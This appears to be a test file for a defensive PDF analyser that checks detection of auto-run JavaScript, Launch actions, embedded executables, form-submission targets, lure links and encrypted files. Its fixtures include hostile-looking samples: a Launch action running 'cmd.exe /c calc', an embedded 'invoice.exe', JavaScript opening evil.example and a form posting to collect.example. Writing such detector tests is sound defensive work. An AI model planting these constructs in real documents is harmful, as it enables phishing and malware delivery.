import { deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import { analysePdf, DEFAULT_PDF_LIMITS } from '../../../functions/src/core/documents/pdf';
import { aes256Pdf, encryptedPdf, linkAnnotation, pdf, simplePdf } from './fixtures';

describe('analysePdf: active content', () => {
  it('finds JavaScript run by OpenAction, and additional actions', async () => {
    const bytes = simplePdf({
      catalog: '/OpenAction 4 0 R /AA << /WC << /S /JavaScript /JS (app.alert(1)) >> >>',
      extra: ['<< /Type /Action /S /JavaScript /JS (this.exportDataObject({cName: "a"})) >>'],
    });
    const facts = await analysePdf(bytes);
    expect(facts.parsed).toBe(true);
    expect(facts.javascript).toBe(2);
    expect(facts.autoActions).toEqual(
      expect.arrayContaining([
        { trigger: 'OpenAction', action: 'JavaScript' },
        { trigger: 'AA/WC', action: 'JavaScript' },
      ]),
    );
  });

  it('finds JavaScript inside a compressed object stream, where a keyword scan of the raw file sees nothing', async () => {
    const doc = await PDFDocument.create();
    doc.addPage();
    const action = doc.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.launchURL("https://evil.example/")') });
    doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(action));
    const bytes = Buffer.from(await doc.save({ useObjectStreams: true }));
    expect(bytes.includes('/JavaScript')).toBe(false);
    const facts = await analysePdf(bytes);
    expect(facts.javascript).toBe(1);
    expect(facts.autoActions).toContainEqual({ trigger: 'OpenAction', action: 'JavaScript' });
  });

  it('finds Launch, embedded files, form submission and URI actions', async () => {
    const bytes = simplePdf({
      catalog: '/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >> /AcroForm << /Fields [] >>',
      extra: [
        '<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>',
        '<< /Type /Filespec /F (invoice.exe) /UF (invoice.exe) /EF << /F 6 0 R >> >>',
        '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
        '<< /S /SubmitForm /F << /FS /URL /F (https://collect.example/submit) >> >>',
      ],
      annots: [linkAnnotation('https://www.example.org/terms')],
    });
    const facts = await analysePdf(bytes);
    expect(facts.launches).toEqual(['cmd.exe']);
    expect(facts.embeddedFiles).toEqual(['invoice.exe']);
    expect(facts.embeddedFileStreams).toBe(1);
    expect(facts.submitTargets).toEqual(['https://collect.example/submit']);
    expect(facts.uris).toEqual(['https://www.example.org/terms']);
    expect(facts.acroForm).toBe(true);
  });

  it('an ordinary PDF: a GoTo open action, a small footer link, text on the page', async () => {
    const content = deflateSync(Buffer.from('BT /F1 12 Tf 72 700 Td (Invoice 2024-001) Tj ET BT (Total due) Tj ET'));
    const bytes = simplePdf({
      catalog: '/OpenAction [3 0 R /Fit]',
      annots: [linkAnnotation('https://shop.example.com/', '[50 20 200 35]')],
      extra: [`<< /Length ${content.length} /Filter /FlateDecode >>\nstream\n${content.toString('latin1')}\nendstream`],
    }).toString('latin1').replace('/MediaBox [0 0 600 800]', '/MediaBox [0 0 600 800] /Contents 4 0 R');
    const facts = await analysePdf(Buffer.from(bytes, 'latin1'));
    expect(facts).toMatchObject({ parsed: true, javascript: 0, launches: [], embeddedFiles: [], submitTargets: [], encryption: null, pages: 1 });
    expect(facts.autoActions).toEqual([{ trigger: 'OpenAction', action: 'GoTo' }]);
    expect(facts.maxLinkAreaRatio).toBeLessThan(0.01);
    expect(facts.firstPageTextOperators).toBe(2);
  });
});

describe('analysePdf: links and lures', () => {
  it('measures how much of the page a link covers and whether the page is only an image', async () => {
    const content = '/Im0 Do';
    const bytes = simplePdf({ annots: [linkAnnotation('https://lure.example/', '[0 0 600 600]')], extra: [`<< /Length ${content.length} >>\nstream\n${content}\nendstream`] })
      .toString('latin1')
      .replace('/MediaBox [0 0 600 800]', '/MediaBox [0 0 600 800] /Contents 4 0 R');
    const facts = await analysePdf(Buffer.from(bytes, 'latin1'));
    expect(facts.maxLinkAreaRatio).toBeCloseTo(0.75);
    expect(facts.firstPageImages).toBe(1);
    expect(facts.firstPageTextOperators).toBe(0);
  });
});

describe('analysePdf: encryption', () => {
  it('decrypts link targets of an RC4 file that opens without a password', async () => {
    const facts = await analysePdf(encryptedPdf({ revision: 3, uri: 'https://hidden.example/login' }));
    expect(facts.encryption).toMatchObject({ revision: 3, cipher: 'rc4', emptyUserPassword: true, openedWithGivenPassword: false });
    expect(facts.uris).toEqual(['https://hidden.example/login']);
  });

  it('decrypts AESV2 strings (revision 4)', async () => {
    const facts = await analysePdf(encryptedPdf({ revision: 4, aes: true, uri: 'https://aes.example/x' }));
    expect(facts.encryption).toMatchObject({ cipher: 'aes128', emptyUserPassword: true });
    expect(facts.uris).toEqual(['https://aes.example/x']);
  });

  it('decrypts AES-256 (revision 6) strings, with the empty password or a given one', async () => {
    const open = await analysePdf(aes256Pdf('https://aes256.example/'));
    expect(open.encryption).toMatchObject({ revision: 6, cipher: 'aes256', emptyUserPassword: true });
    expect(open.uris).toEqual(['https://aes256.example/']);
    const protectedFile = aes256Pdf('https://aes256.example/p', 'Invoice-77');
    expect((await analysePdf(protectedFile)).encryption?.emptyUserPassword).toBe(false);
    expect((await analysePdf(protectedFile, DEFAULT_PDF_LIMITS, { passwords: ['Invoice-77'] })).uris).toEqual(['https://aes256.example/p']);
  });

  it('opens a password-protected file with a password the message gives, and stays locked otherwise', async () => {
    const bytes = encryptedPdf({ revision: 3, userPassword: '123', uri: 'https://locked.example/' });
    const locked = await analysePdf(bytes);
    expect(locked.encryption).toMatchObject({ emptyUserPassword: false, openedWithGivenPassword: false });
    expect(locked.uris[0]).not.toBe('https://locked.example/');
    const opened = await analysePdf(bytes, DEFAULT_PDF_LIMITS, { passwords: ['wrong', '123'] });
    expect(opened.encryption?.openedWithGivenPassword).toBe(true);
    expect(opened.uris).toEqual(['https://locked.example/']);
  });
});

describe('analysePdf: bounds and damage', () => {
  it('never throws: garbage, truncation and files over the limits give facts with a problem', async () => {
    expect(await analysePdf(Buffer.from('%PDF-1.4\ngarbage'))).toMatchObject({ parsed: false });
    expect((await analysePdf(Buffer.from('hello'))).problem).toMatch(/unparseable|no objects/);
    const whole = simplePdf({ annots: [linkAnnotation('https://a.example/')] });
    await expect(analysePdf(whole.subarray(0, whole.length - 60))).resolves.toBeDefined();
    expect((await analysePdf(whole, { ...DEFAULT_PDF_LIMITS, maxBytes: 100 })).problem).toMatch(/larger than 100 bytes/);
    const many = pdf(Array.from({ length: 30 }, () => '<< >>'));
    expect((await analysePdf(many, { ...DEFAULT_PDF_LIMITS, maxObjects: 10 })).problem).toMatch(/more than 10 objects/);
  });

  it('stops walking when cancelled and when the node budget is spent', async () => {
    const bytes = simplePdf({ annots: Array.from({ length: 300 }, (_, i) => linkAnnotation(`https://x.example/${i}`)) });
    expect((await analysePdf(bytes, DEFAULT_PDF_LIMITS, { cancelled: () => true })).truncated).toBe(true);
    const small = await analysePdf(bytes, { ...DEFAULT_PDF_LIMITS, maxNodes: 50 });
    expect(small.truncated).toBe(true);
    expect(small.uris.length).toBeLessThan(300);
  });
});
